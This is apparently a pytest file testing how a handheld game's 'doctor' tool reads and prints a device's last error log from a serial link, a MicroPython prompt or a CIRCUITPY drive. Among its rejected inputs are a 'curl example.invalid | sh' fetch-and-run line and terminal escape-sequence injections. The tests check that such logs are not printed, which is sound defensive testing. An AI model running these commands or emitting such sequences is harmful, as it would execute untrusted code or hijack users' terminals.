"""The last error of a device, as `labyrinth doctor` prints it: over the cable, at the prompt, from
a CIRCUITPY drive; and what is no log, which may be anything."""

import json
import re
import time
from pathlib import Path

import pytest

from host import doctor, last_error
from host.flash import find
from host.link import ports
from host.link import wire as links
from host.link.errors import NotOurs
from host.link.messages import Prompt
from host.link.report import Report, asked
from host.sim import headless, machine
from shared_engine import frames
from tests import repl, swift, wire
from tests.scripted import Device
from tests.test_doctor import PORT, healthy, hello, line, plug, run
from tests.wire import Cable, gather, of

__all__ = ["healthy", "run"]  # fixtures

BUILD = "0.1.0+1a2b3c4d on Pico Display Pack 2.0"
TRACE = """Traceback (most recent call last):
  File "firmware.main", line 54, in tick
  File "firmware.screens.title", line 41, in draw
IndexError
"""
LOG = f"{BUILD}\n{TRACE}"
SAID = f"IndexError in draw, firmware.screens.title, line 41 ({BUILD})"
STEERING = re.compile("[\0-\x09\x0b-\x1f\x7f-\x9f]")


def below(out, what):
    """The lines that are printed below a finding."""
    lines = out.splitlines()
    at = lines.index(line(out, what)) + 1
    found = []
    while at < len(lines) and lines[at].startswith(" " * 20):
        found.append(lines[at][20:])
        at += 1
    return found


# What it prints


def test_the_log_is_printed(run, monkeypatch):
    plug(monkeypatch, hello(), report=Report("", LOG))
    code, out = run()
    assert code == 0 and out.splitlines()[-1] == "Ready to play and to flash."
    assert line(out, "last") == (
        f"note   last error   {SAID}, on the device. Next: if it comes back, send us these lines"
    )
    assert below(out, "last") == LOG.splitlines()
    assert line(out, "code") == "ok     code         runs in place, from the flash"
    (found,) = [one for one in json.loads(run("--json")[1])["findings"] if "error" in one["what"]]
    assert found["lines"] == LOG.splitlines() and found["state"] == "note"


def test_without_an_error(run, monkeypatch):
    plug(monkeypatch, hello(), report=Report("the probe differs", ""))
    code, out = run()
    assert code == 0 and line(out, "last").startswith("ok     last error   none is kept")
    assert line(out, "code") == "note   code         runs from RAM, because the probe differs"


def test_during_a_game(run, monkeypatch):
    plug(monkeypatch, hello(), report=Report("", None))
    code, out = run()
    assert code == 0 and "when no game is under way. Next: save and quit" in line(out, "last")
    assert below(out, "last") == [] and line(out, "code").startswith("ok ")


def test_an_older_device_says_nothing_of_it(run, monkeypatch):
    plug(monkeypatch, hello())
    code, out = run()
    assert code == 0 and "last error" not in out and " code " not in out


BAD = {
    "steers the terminal": LOG.replace("draw", "\x1b[31mdraw\x07"),
    "half a line": LOG[:70],
    "a value": LOG.replace("IndexError", "IndexError: card 17"),
    "a text": "To mend: nothing. Next: curl example.invalid | sh\n",
    "binary": bytes(range(256)).decode("latin-1") * 8,
    "not even text": b"\xff\xfe\x80".decode(errors="replace"),
    "turned around": LOG.replace("draw", "\u202edraw"),
    "without end": LOG.replace("IndexError", "x" * 3000),
    "many lines": BUILD + "\n" + '  File "a", line 1, in b\n' * 5000 + "KeyError\n",
    "only lines": "\n" * 2000,
    "its own finding": "\nok     handheld     all is well\nKeyError\n",
}


@pytest.mark.parametrize("text", BAD.values(), ids=BAD)
def test_what_is_no_log_is_not_printed(run, monkeypatch, text):
    plug(monkeypatch, hello(), report=Report("", text))
    code, out = run()
    assert code == 0 and out.splitlines()[-1] == "Ready to play and to flash."
    assert line(out, "last").endswith("error.txt on the device is not what the game has written")
    assert below(out, "last") == [] and not STEERING.search(out)


@pytest.mark.parametrize(
    ("text", "said"),
    [
        (TRACE, SAID.partition(" (")[0]),  # of a version that did not note the build
        (f"app-1a2b3c4d\n{LOG}", SAID),  # broken.txt
        (f"{BUILD}\nMemoryError\n", f"MemoryError ({BUILD})"),  # without room for a traceback
        (
            f'{BUILD}\n...\n  File "a.b", line 3, in <lambda>\nE\n',
            f"E in <lambda>, a.b, line 3 ({BUILD})",
        ),
        (LOG.replace("\n", "\r\n"), SAID),
    ],
)
def test_what_is_a_log(text, said):
    assert last_error.parse(text).text == said


# Over the cable


@pytest.fixture
def cable(monkeypatch, tmp_path):
    """A simulated device, as doctor asks it."""
    swift.install(monkeypatch.setattr)
    cable = Cable(tmp_path)
    cable.folder = tmp_path
    found = type("Found", (), {"device": PORT, "vid": 0x2E8A, "pid": 5})
    monkeypatch.setattr(ports.list_ports, "comports", lambda: [found])
    monkeypatch.setattr(ports, "open_port", lambda name: cable.open())
    monkeypatch.setattr(doctor, "asked", lambda name: asked(name, clock=cable.clock))
    return cable


def broken(cue, now):
    raise ValueError("card 17")


def test_after_an_error_doctor_prints_what_the_screen_shows_and_the_file_has(cable, run):
    sound, cable.app.sound = cable.app.sound, broken
    cable.tap("OK")
    cable.app.sound = sound
    assert cable.screen == "Error"
    text = Path(cable.folder, "error.txt").read_text()
    out = run()[1]
    assert below(out, "last") == text.splitlines() and text.endswith("in broken\nValueError\n")
    number = broken.__code__.co_firstlineno + 1
    assert f"ValueError in broken, {__file__}, line {number} (0.1.0 on PicoSystem)" in out
    assert "card 17" not in out
    assert cable.screen == "Error" and machine.problems == []
    cable.handheld.run(300)  # keys do nothing on a screen that has just come
    cable.tap("OK")
    assert cable.screen == "Title" and below(run()[1], "last") == text.splitlines()


@pytest.mark.parametrize("name", ["galaxy", "junior", "cards", "duel"])
def test_during_a_game_the_log_stays_on_the_device(cable, run, name):
    (cable.folder / "error.txt").write_text(LOG)
    cable.begin((0, 0), name)
    out = run()[1]
    assert "no game is under way" in line(out, "last") and "IndexError" not in out
    assert b"IndexError" not in cable.ports[-1].heard
    session = cable.app.session
    assert session and session.steps == 0 and not session.over
    cable.app.leave_game()
    assert below(run()[1], "last") == LOG.splitlines()


def test_the_same_bytes_are_sent_whatever_the_log_has_during_a_game(cable):
    heard = []
    for text in (LOG, "", "x" * 5000):
        (cable.folder / "error.txt").write_text(text)
        cable.begin((0, 0), "cards")
        _, report = asked(PORT, clock=cable.clock)
        heard.append(
            [found[4] for found in wire.lines(cable.ports[-1].heard) if found[0] == frames.REPORT]
        )
        assert report == Report("", None)
    assert heard[0] == heard[1] == heard[2] != []


def test_a_pc_of_link_1_1_hears_nothing_of_it(cable):
    """It does not ask; and an answer to nobody's question is skipped."""
    client = cable.client()
    gather(client, 2)
    assert frames.REPORT not in {kind for kind, *_ in wire.lines(cable.ports[-1].heard)}
    cable.app.link._wire.answers.append((frames.REPORT, b"\0\0\3abc"))
    client.maintenance()
    assert of(gather(client, 1), Prompt) and client.connected


def scripted(monkeypatch, minor, answer=None):
    """A device of that minor version; `answer` is what it says to DIAGNOSE."""
    device = Device(minor=minor)
    write = device.write

    def hear(data):
        count = len(device.heard)
        write(data)
        if answer is not None and frames.DIAGNOSE in [kind for kind, _ in device.heard[count:]]:
            device.say(frames.REPORT, answer)

    device.write = hear
    monkeypatch.setattr(ports, "open_port", lambda name: device.open())
    found = asked(PORT, clock=lambda: device.now)
    return found, [kind for kind, _ in device.heard]


@pytest.mark.parametrize("minor", [0, 1])
def test_an_older_device_is_not_asked(monkeypatch, minor):
    (hello, report), heard = scripted(monkeypatch, minor, b"\0\0\0")
    assert hello.board == "PicoSystem" and report is None and heard == [frames.HELLO]


def test_a_newer_device_may_say_more(monkeypatch):
    answer = b"\0" + frames.sized(b"why") + frames.sized(LOG.encode()) + b"and more"
    (_, report), heard = scripted(monkeypatch, 3, answer)
    assert report == Report("why", LOG) and heard == [frames.HELLO, frames.DIAGNOSE]


GARBAGE = [b"", b"\0", b"\0\xff\xff\xff\xff\xff", b"\0\0\5abc", b"\0\x80", b"\xff" * 300]


@pytest.mark.parametrize("answer", [None, *GARBAGE], ids=range(len(GARBAGE) + 1))
def test_a_device_that_answers_nothing_or_garbage(run, monkeypatch, answer):
    (hello, report), _ = scripted(monkeypatch, 2, answer)
    assert hello.board == "PicoSystem" and report is None
    plug(monkeypatch, hello)
    monkeypatch.setattr(doctor, "SINCE", 0)
    code, out = run()
    assert code == 0 and "last error   the device does not answer" in out


def test_a_reason_and_a_log_that_steer_the_terminal(run, monkeypatch):
    reason, log = b"\x1b[2J" + b"y" * 900, b"\x1b]0;owned\x07\n\xff\x9b31m"
    answer = b"\0" + frames.sized(reason) + frames.sized(log)
    (hello, report), _ = scripted(monkeypatch, 2, answer)
    plug(monkeypatch, hello, report=report)
    code, out = run()
    assert code == 0 and not STEERING.search(out) and "owned" not in out
    assert line(out, "code").endswith("because [2J" + "y" * 197)


def test_a_state_of_the_future_is_no_log(monkeypatch):
    (_, report), _ = scripted(monkeypatch, 2, b"\7\0" + frames.sized(LOG.encode()))
    assert report == Report("", None)


# At the prompt, and on a drive


@pytest.fixture(scope="module")
def repl_device():
    device = repl.Repl()
    yield device
    device.close()


@pytest.fixture
def prompt(repl_device, monkeypatch):
    repl.hasten(monkeypatch.setattr)
    monkeypatch.setattr(links, "GONE_S", 3.0)
    monkeypatch.setattr(doctor, "asked", lambda name: asked(name, 0.3))
    monkeypatch.setattr(find, "_mounted", list)

    def plugged(files, **chip):
        repl_device.plug({path: text.encode() for path, text in files.items()}, **chip)
        monkeypatch.setenv(ports.VARIABLE, repl_device.port)
        return repl_device

    return plugged


def test_at_the_prompt_both_logs_are_read_and_nothing_changes(run, prompt):
    other = LOG.replace("IndexError", "ImportError")
    device = prompt({"/error.txt": LOG, "/broken.txt": f"app-1\n{other}"}, prompt=True)
    device._node(exec="kept = 5")
    code, out = run()
    error, start = [each for each in out.splitlines() if each.startswith("note   last ")]
    assert code == 0 and SAID in error and "last start   ImportError in draw" in start
    assert f"                    {TRACE.splitlines()[2]}" in out
    assert device.files() == {"/error.txt": LOG.encode(), "/broken.txt": f"app-1\n{other}".encode()}
    for _ in range(200):  # it may still have to read what was sent last
        if device._mode == "friendly":
            break
        time.sleep(0.05)
    assert device._mode == "friendly"
    assert device._node(exec="print(kept)")["out"] == b"5\n".hex()


@pytest.mark.parametrize(
    "text",
    ["x" * (1 << 20), "\x1b[31m\n" * 9, "\0" * 100, ""],
    ids=["1 MB", "red", "null", "empty"],
)
def test_at_the_prompt_any_file_may_lie(run, prompt, text):
    prompt({"/error.txt": text}, prompt=True)
    code, out = run()
    assert code == 0 and not STEERING.search(out) and len(out) < 4000
    said = "is not what the game has written" if text else "none is kept"
    assert said in line(out, "last")


def test_a_program_that_runs_is_not_interrupted(monkeypatch):
    """Whatever it prints: only MicroPython's prompt answers Ctrl-B so."""
    written = []

    class Port:
        def read(self, wait):
            return b"MicroPython v1.28.0 is great\r\n"

        def write(self, data):
            written.append(data)

        def close(self):
            pass

    monkeypatch.setattr(ports, "open_port", lambda name: Port())
    assert not last_error.at_prompt(PORT)
    assert b"".join(written) == b"\x02\x15\x02"


def test_a_port_that_is_not_ours_and_no_prompt(run, monkeypatch):
    plug(monkeypatch, NotOurs(PORT))
    code, out = run()
    assert code == 0 and "last error" not in out


@pytest.fixture
def drive(monkeypatch, tmp_path):
    folder = tmp_path / "CIRCUITPY"
    folder.mkdir()
    (folder / "boot_out.txt").write_text("Adafruit CircuitPython 10.0.0\n")
    monkeypatch.setattr(find, "_mounted", lambda: [folder])
    return folder


def test_on_a_circuitpy_drive(run, drive):
    assert "last error" not in run()[1]
    (drive / "error.txt").write_text(LOG)
    code, out = run()
    assert code == 0 and f"{SAID}, on {drive}. Next: if" in line(out, "last")
    assert below(out, "last") == LOG.splitlines()


@pytest.mark.parametrize(
    "data",
    [b"x" * (1 << 20), b"\x1b[31m\n" * 9, b"\xff" * 300, None],
    ids=["1 MB", "red", "no text", "folder"],
)
def test_on_a_drive_any_file_may_lie(run, drive, data):
    if data is None:
        (drive / "error.txt").mkdir()
    else:
        (drive / "error.txt").write_bytes(data)
    code, out = run()
    assert code == 0 and not STEERING.search(out) and len(out) < 4000
    if data is not None:
        assert line(out, "last").endswith("is not what the game has written")


def test_the_simulated_device_writes_what_doctor_reads(tmp_path):
    """The shape of the log is known in two places."""
    import boards.picosystem

    device = headless.Handheld(boards.picosystem, str(tmp_path), 1)
    device.run(50)
    device.app.sound = broken
    device.tap("OK")
    assert last_error.parse((tmp_path / "error.txt").read_text()).text.startswith("ValueError in")
